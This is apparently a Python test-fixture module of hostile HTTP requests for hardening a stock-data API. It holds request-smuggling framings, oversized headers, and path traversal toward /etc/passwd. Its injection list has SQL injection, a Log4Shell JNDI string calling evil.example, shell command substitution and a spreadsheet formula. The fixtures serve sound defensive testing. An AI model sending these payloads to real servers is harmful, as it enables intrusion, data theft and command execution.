"""Requests of strangers, as bytes: doubtful framings, strange lines and headers, and texts that are no values."""

SMUGGLED = b"GET /api/status HTTP/1.1\r\nHost: localhost\r\nX-Request-ID: smuggled\r\n\r\n"


def request(lines: str, body: bytes = b"", *, path: str = "/api/latest", method: str = "POST") -> bytes:
    """A request as bytes; *lines* are header lines beside Host."""
    return f"{method} {path} HTTP/1.1\r\nHost: localhost\r\n{lines}\r\n".encode("latin-1") + body


CHUNKED = "Transfer-Encoding: chunked\r\n"
FRAMINGS = {
    "length and chunks": request(f"Content-Length: 4\r\n{CHUNKED}", b"0\r\n\r\n" + SMUGGLED),
    "chunks and length": request(f"{CHUNKED}Content-Length: 0\r\n", b"0\r\n\r\n" + SMUGGLED),
    "two lengths": request("Content-Length: 0\r\nContent-Length: 67\r\n", SMUGGLED),
    "a list of lengths": request("Content-Length: 0, 67\r\n", SMUGGLED),
    "a length with a sign": request("Content-Length: +4\r\n", b"abcd" + SMUGGLED),
    "a negative length": request("Content-Length: -1\r\n", SMUGGLED),
    "a length in hex": request("Content-Length: 0x4\r\n", b"abcd" + SMUGGLED),
    "a length beyond numbers": request("Content-Length: 99999999999999999999999\r\n", SMUGGLED),
    "an empty length": request("Content-Length: \r\n", SMUGGLED),
    "a coding that nobody knows": request("Transfer-Encoding: xchunked\r\n", b"0\r\n\r\n" + SMUGGLED),
    "chunked, then something else": request("Transfer-Encoding: chunked, identity\r\n", b"0\r\n\r\n" + SMUGGLED),
    "two codings": request(f"{CHUNKED}Transfer-Encoding: identity\r\n", b"0\r\n\r\n" + SMUGGLED),
    "a coding in quotes": request('Transfer-Encoding: "chunked"\r\n', b"0\r\n\r\n" + SMUGGLED),
    "a coding after a tab": request("Transfer-Encoding:\x0bchunked\r\n", b"0\r\n\r\n" + SMUGGLED),
    "a space before the colon": request("Transfer-Encoding : chunked\r\n", b"0\r\n\r\n" + SMUGGLED),
    "a folded line": request("X-A: b\r\n Content-Length: 0\r\n", SMUGGLED),
    "a folded coding": request("Transfer-Encoding:\r\n chunked\r\n", b"0\r\n\r\n" + SMUGGLED),
    "bare line feeds": request("", SMUGGLED).replace(b"\r\n", b"\n", 2),
    "a bare carriage return": request("X-A: b\rTransfer-Encoding: chunked\r\n", b"0\r\n\r\n" + SMUGGLED),
    "a NUL in a value": request("X-A: b\0c\r\n"),
    "no name": request(": b\r\n"),
    "a name with a space": request("X A: b\r\n"),
    "a name beyond ASCII": request("X-\xe4: b\r\n"),
    "a negative chunk": request(CHUNKED, b"-1\r\n\r\n" + SMUGGLED),
    "a chunk in 0x": request(CHUNKED, b"0x0\r\n\r\n" + SMUGGLED),
    "a chunk beyond numbers": request(CHUNKED, b"fffffffffffffffff\r\nabc" + SMUGGLED),
    "a chunk that is longer than said": request(CHUNKED, b"1\r\nabc\r\n0\r\n\r\n" + SMUGGLED),
    "a chunk without its end": request(CHUNKED, b"3\r\nabc0\r\n\r\n" + SMUGGLED),
    "a chunk that ends in a line feed": request(CHUNKED, b"0\n\n" + SMUGGLED),
    "an endless extension of a chunk": request(CHUNKED, b"0;" + b"a=b;" * 30_000 + b"\r\n\r\n"),
    "chunks in HTTP/1.0": request(CHUNKED, b"0\r\n\r\n" + SMUGGLED).replace(b"HTTP/1.1", b"HTTP/1.0", 1),
}
REQUESTS = {
    "nothing of HTTP": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 200,
    "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "HTTP/9.9": b"GET /api/latest HTTP/9.9\r\nHost: localhost\r\n\r\n",
    "an unknown method": request("", method="HACK"),
    "a method in small letters": request("", method="get"),
    "a method of a kilobyte": request("", method="A" * 1000),
    "CONNECT": b"CONNECT localhost:5432 HTTP/1.1\r\nHost: localhost:5432\r\n\r\n",
    "TRACE": request("Cookie: a=b\r\n", method="TRACE"),
    "a path without a slash": request("", path="api/latest", method="GET"),
    "a path of 100 kB": request("", path="/api/" + "a" * 100_000, method="GET"),
    "a query of 100 kB": request("", path="/api/ohlc?tickers=" + "A," * 50_000, method="GET"),
    "5,000 parameters": request("", path="/api/ohlc?" + "limit=1&" * 5000, method="GET"),
    "5,000 parameters of many names": request(
        "", path="/api/ohlc?" + "&".join(f"{n:x}=" for n in range(2000)), method="GET"
    ),
    "1,000 header lines": request("".join(f"X-{n}: b\r\n" for n in range(1000)), method="GET", path="/api/nothing"),
    "a header line of 200 kB": request(f"X-A: {'b' * 200_000}\r\n", method="GET", path="/api/nothing"),
    "climbing out": request("", path="/api/../../../../etc/passwd", method="GET"),
    "climbing out, escaped": request("", path="/api/tickers/..%2f..%2f..%2fetc%2fpasswd", method="GET"),
    "events from outside": request(
        "ce-id: 1\r\nce-type: x\r\nContent-Length: 2\r\n", b"{}", path="/api/insights/events"
    ),
    "half an escape": request("", path="/api/tickers/%", method="GET"),
    "overlong UTF-8": request("", path="/api/tickers/%C0%AF%E0%80%AF", method="GET"),
    "NUL in the path": request("", path="/api/tickers/A%00B", method="GET"),
    "a line break in the path": request("", path="/api/tickers/A%0D%0ASet-Cookie:%20a=b", method="GET"),
    "surrogates": request("", path="/api/tickers/%ED%A0%80", method="GET"),
    "raw bytes in the path": b"GET /api/tickers/\xff\xfe\xc3\xa4 HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "raw bytes in the query": b"GET /api/ohlc/AAPL?start=\xff\xfe HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "a tab in the line": b"GET\t/api/latest\tHTTP/1.1\r\nHost: localhost\r\n\r\n",
    "a token of 100 kB": request(f"Authorization: Bearer sal_{'a' * 100_000}\r\n", method="GET", path="/api/nothing"),
    "a token with bytes": b"GET /api/latest HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer sal_\xff\xfe\r\n\r\n",
    "a token with controls": b"GET /api/latest HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer a\x01b\r\n\r\n",
}
ELSEWHERE = {
    "climbing out of the page": request("", path="/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", method="GET"),
    "an inner function": request("", path="/stocksalot/store/", method="GET"),
    "an inner host": b"GET / HTTP/1.1\r\nHost: store.stocksalot.svc.cluster.local\r\n\r\n",
    "the runner": request("", path="/-/status", method="GET"),
}
HEADERS = {
    "hop-by-hop": "Connection: x-forwarded-for, host, authorization\r\n",
    "upgrade": "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n",
    "websocket": "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n",
    "expect": "Expect: 100-continue\r\nContent-Length: 0\r\n",
    "another method": "X-HTTP-Method-Override: DELETE\r\nX-Original-URL: /api/users/me\r\nX-Rewrite-URL: /admin\r\n",
    "a range": "Range: bytes=0-0,-1,99999999999999999999-\r\n",
    "many wishes": f"Accept: {','.join(['text/csv;q=0.0001'] * 500)}\r\nAccept-Encoding: {'gzip;q=1,' * 500}\r\n",
    "many tags": "If-None-Match: " + ",".join(f'"{n}"' for n in range(3000)) + "\r\n",
    "broken wishes": "Accept: text/csv;q=0.0.0,*/*;q=,\xff\r\nAccept-Encoding: gzip;q=9..9,;;,\xff\r\n",
    "bytes": 'If-None-Match: \xff"\r\nX-Request-ID: \x80\r\n',
    "addresses": f"X-Forwarded-For: {', '.join(['::ffff:999.1.1.1', '[::1', '127.0.0.1:99999', '%00'] * 50)}\r\n",
    "a trace": "traceparent: 00-zz-zz-01\r\ntracestate: " + "a=b," * 500 + "\r\n",
    "an id with a script": "X-Request-ID: <script>alert(1)</script>\r\n",
    "a proxy": "Forwarded: for=evil;host=evil;proto=evil\r\nX-Forwarded-Host: evil\r\nX-Forwarded-Proto: evil\r\n",
}
INJECTIONS = (
    "' OR '1'='1", "1; DROP TABLE bars; --", "AAPL' UNION SELECT hash FROM tokens --", "%' AND pg_sleep(5)--",
    "${jndi:ldap://evil.example/a}", "{{7*7}}", "$(id)", "`id`", "; cat /etc/passwd", "<script>alert(1)</script>",
    "\r\nSet-Cookie: a=b", "\0", "\u202eAAPL", "ﬀ", "\uff21\uff21\uff30\uff2c", "A\u0301APL",
    "🦄", "NaN", "Infinity", "1e309",
    "9" * 400, "[]", "{}", "null", "__proto__", "../../etc/passwd", "file:///etc/passwd", "=cmd|'/c calc'!A1",
)  # fmt: skip
